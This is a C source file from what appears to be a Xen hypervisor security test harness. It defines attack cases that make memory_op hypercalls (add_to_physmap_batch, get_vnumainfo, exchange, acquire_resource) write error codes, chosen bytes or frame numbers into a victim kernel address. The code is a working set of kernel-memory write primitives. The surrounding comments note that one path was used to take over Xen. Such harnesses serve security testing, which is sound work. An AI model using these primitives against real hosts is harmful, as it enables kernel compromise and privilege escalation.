// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-KMEM through memory_op: lists of frames and maps of memory. Where Xen
 * allocates a frame it writes the frame's number, and a caller who tries often
 * enough gets a number of his choice.
 */
#include "kmem.h"

#include <xen/physdev.h>

/* ---- maps ---- */

/*
 * U-KMEM-PHYSMAP: 4 bytes for each page that is to be mapped: an error. Here
 * for a frame of the grant table that there is not.
 */
KMEM_ATTACK("U-KMEM-PHYSMAP", "the errors of add_to_physmap into the kernel")
{
    xen_ulong_t index = 0xffff;
    xen_pfn_t frame = 0;
    struct xen_add_to_physmap_batch batch = { .domid = DOMID_SELF,
                                              .space = XENMAPSPACE_grant_table,
                                              .size = 1,
                                              .idxs.p = &index,
                                              .gpfns.p = &frame,
                                              .errs.p = AT_VICTIM };

    if ( dom0_is_pv() )
        return cannot_show("PVH only: a PV domain's memory map is its own");

    return memory_op(XENMEM_add_to_physmap_batch, &batch);
}

/*
 * U-KMEM-VNUMA: chosen bytes: the memory ranges of a domain's virtual NUMA
 * nodes, as they were set just before.
 */
KMEM_ATTACK("U-KMEM-VNUMA", "chosen memory ranges into the kernel")
{
    unsigned int distance = 10, vcpu_to_node = 0, node = 0;
    struct xen_vmemrange range = { .nid = 0 };
    struct xen_vnuma_topology_info get = { .domid = other_domain(DOMU_HVM),
                                           .nr_vnodes = 1,
                                           .nr_vcpus = 1,
                                           .nr_vmemranges = 1 };

    memcpy(&range, new_mark(), MARK_SIZE); /* as start and end */
    DOMCTL(setvnumainfo, get.domid,
           .u.vnuma = { .nr_vnodes = 1,
                        .nr_vcpus = 1,
                        .nr_vmemranges = 1,
                        .vdistance.p = &distance,
                        .vcpu_to_vnode.p = &vcpu_to_node,
                        .vnode_to_pnode.p = &node,
                        .vmemrange.p = &range });

    get.vdistance.h.p = &distance;
    get.vcpu_to_vnode.h.p = &vcpu_to_node;
    get.vmemrange.h.p = AT_VICTIM;
    return memory_op(XENMEM_get_vnumainfo, &get);
}

/* ---- frames ---- */

static const char pv_only[] =
    "PV only: of other domains Xen keeps the numbers of frames to itself";

static long change_reservation(unsigned int cmd, uint64_t frames)
{
    struct xen_memory_reservation reservation = {
        .extent_start.p = (void *)frames, .nr_extents = 1, .domid = DOMID_SELF
    };

    return memory_op(cmd, &reservation);
}

/* Return the frame whose number Xen has written, if it has. */
static void give_back(uint64_t written)
{
    xen_pfn_t frame;

    if ( read_back(written, &frame, sizeof(frame)) )
        change_reservation(XENMEM_decrease_reservation, (uintptr_t)&frame);
}

/* Have Xen write the number of a new frame over the victim. */
static long new_frame(unsigned int cmd)
{
    long result;

    if ( !dom0_is_pv() )
        return cannot_show(pv_only);

    result = change_reservation(cmd, victim());
    give_back(victim());
    return result;
}

/*
 * U-KMEM-EXCHANGE: the number of a frame that is got for another. This one has
 * been used to take over Xen itself, when it did not check the address.
 */
KMEM_ATTACK("U-KMEM-EXCHANGE",
            "the number of an exchanged frame into the kernel")
{
    xen_pfn_t spare = 0;
    struct xen_memory_exchange exchange = {
        .in = { .nr_extents = 1, .domid = DOMID_SELF },
        .out = { .nr_extents = 1, .domid = DOMID_SELF },
    };
    long result;

    if ( !dom0_is_pv() )
        return cannot_show(pv_only);

    change_reservation(XENMEM_increase_reservation, (uintptr_t)&spare);
    exchange.in.extent_start.p = &spare;
    exchange.out.extent_start.p = AT_VICTIM;
    result = memory_op(XENMEM_exchange, &exchange);
    give_back(victim());
    return result;
}

/*
 * U-KMEM-ACQUIRE: the numbers of the frames of another domain's grant table; to
 * a PVH dom0, only how many there are.
 */
KMEM_ATTACK("U-KMEM-ACQUIRE", "the frames of a resource into the kernel")
{
    struct xen_mem_acquire_resource resource = {
        .type = XENMEM_resource_grant_table
    };

    resource.domid = other_domain(DOMU_HVM);
    if ( !dom0_is_pv() )
        return memory_op(XENMEM_acquire_resource,
                         in_host_name(&resource, sizeof(resource)));

    resource.nr_frames = 1;
    resource.frame_list.p = AT_VICTIM;
    return memory_op(XENMEM_acquire_resource, &resource);
}

#include "memory.def"
